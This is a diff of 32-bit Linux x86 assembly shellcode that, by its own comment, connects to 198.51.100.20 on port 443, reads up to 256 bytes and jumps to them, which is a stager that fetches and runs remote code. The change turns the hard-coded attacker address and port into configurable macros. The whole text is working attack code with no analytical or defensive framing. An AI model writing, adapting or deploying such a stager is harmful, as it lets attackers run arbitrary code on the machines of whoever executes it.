@@ -1,5 +1,9 @@
 ; Linux, 32 bit: connects to 198.51.100.20 port 443, reads up to 256 bytes and jumps to them.
 bits 32
+%ifndef PORT
+%define PORT 443
+%define ADDRESS 0x146433c6     ; 198.51.100.20
+%endif
         xor ebx, ebx
         mul ebx
         push ebx
@@ -10,8 +14,8 @@ bits 32
         mov al, 102
         int 80h
         xchg eax, edi
-        push dword 0x146433c6   ; 198.51.100.20
-        push word 0xbb01        ; 443
+        push dword ADDRESS
+        push word ((PORT & 255) << 8) | (PORT >> 8)
         push word 2
         mov ecx, esp
         push byte 16
